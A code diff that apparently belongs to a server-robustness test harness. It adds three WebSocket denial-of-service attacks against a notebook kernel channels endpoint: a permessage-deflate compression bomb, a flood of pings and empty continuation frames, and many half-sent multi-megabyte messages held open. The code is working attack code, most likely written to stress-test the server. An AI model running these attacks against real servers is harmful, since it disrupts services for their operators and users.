@@ -13,6 +13,7 @@ import threading
 import time
 import urllib.parse
 import urllib.request
+import zlib
 from collections.abc import Callable, Iterator
 from contextlib import ExitStack, contextmanager, suppress
 from dataclasses import dataclass, field
@@ -242,6 +243,74 @@ def overlapping(url: str, seconds: float = 8, many: int = 20) -> ExitStack:
     return stack
 
 
+def frame(kind: int, data: bytes = b"", last: bool = True, packed: bool = False) -> bytes:
+    """One of a socket, masked with nothing: kind 0 goes on, 1 is text, 2 bytes, 9 a ping."""
+    size = len(data)
+    head = bytes([0x80 * last | 0x40 * packed | kind, 0x80 | (size if size < 126 else 126 if size < 2**16 else 127)])
+    return head + (b"" if size < 126 else struct.pack("!H" if size < 2**16 else "!Q", size)) + bytes(4) + data
+
+
+def speaker(url: str, one: Visitor, *headers: str) -> tuple[socket.socket, str]:
+    """A socket to a process, and what the server said to it."""
+    found = line(url, request(path(url, f"api/kernels/{one.kernel}/channels?session_id=x"), *UPGRADE, *headers))
+    said = b""
+    while not said.endswith(b"\r\n\r\n"):
+        if not (part := found.recv(1)):
+            raise ConnectionError(said)
+        said += part
+    return found, said.decode()
+
+
+def telling(url: str, seconds: float, frames: bytes, begin: bytes = b"", pages: int = 5, *headers: str) -> ExitStack:
+    """Four sockets of each of some pages say these frames again and again, and read nothing; new ones when it ends."""
+    stack, end = ExitStack(), time.monotonic() + seconds
+
+    def says(one: Visitor) -> None:
+        while time.monotonic() < end:
+            with suppress(OSError), speaker(url, one, *headers)[0] as there:
+                there.sendall(begin)
+                while time.monotonic() < end:
+                    there.sendall(frames)
+            time.sleep(0.02)
+
+    for _ in range(pages):
+        with suppress(Exception):
+            one = Visitor(url).open(ONE_BOARD)
+            stack.callback(partial(suppress_all, one.leave))
+            for _ in range(4):
+                threading.Thread(target=says, args=(one,), daemon=True).start()
+    time.sleep(max(0.0, end - time.monotonic()))
+    return stack
+
+
+def swelling(url: str, seconds: float = 8) -> ExitStack:
+    """Messages of nine kilobytes that say they are nine megabytes, compressed."""
+    packing = zlib.compressobj(9, zlib.DEFLATED, -15)
+    bomb = (packing.compress(b" " * 8_900_000) + packing.flush(zlib.Z_SYNC_FLUSH))[:-4]
+    return telling(url, seconds, frame(1, bomb, packed=True), b"", 5, "Sec-WebSocket-Extensions: permessage-deflate")
+
+
+def pinging(url: str, seconds: float = 8) -> ExitStack:
+    """Pings, and parts of a message that have nothing in them, as fast as they can be sent."""
+    return telling(url, seconds, (frame(9) + frame(0, last=False)) * 5000, frame(1, b"a", last=False))
+
+
+def withholding(url: str, seconds: float = 8, pages: int = 15) -> ExitStack:
+    """Messages of nine megabytes of which all came but the end, by four sockets of each page."""
+    stack = ExitStack()
+    for _ in range(pages):
+        with suppress(Exception):
+            one = Visitor(url).open(ONE_BOARD)
+            stack.callback(partial(suppress_all, one.leave))
+            for _ in range(4):
+                there = stack.enter_context(speaker(url, one)[0])
+                there.sendall(frame(2, b"x" * 900_000, last=False))
+                for _ in range(8):
+                    there.sendall(frame(0, b"x" * 1_000_000, last=False))
+    time.sleep(seconds)
+    return stack
+
+
 def suppress_all(deed: Callable[[], object]) -> None:
     """Do it, whether it succeeds or not."""
     with suppress(Exception):
@@ -250,7 +319,10 @@ def suppress_all(deed: Callable[[], object]) -> None:
 
 ATTACKS: dict[str, Callable[[str], ExitStack]] = {
     one.__name__: one
-    for one in (deaf, idle, halting, gorged, sockets, greedy, vanishing, dripping, crowding, overlapping)
+    for one in (
+        *(deaf, idle, halting, gorged, sockets, greedy, vanishing, dripping, crowding, overlapping),
+        *(swelling, pinging, withholding),
+    )
 }
 
 
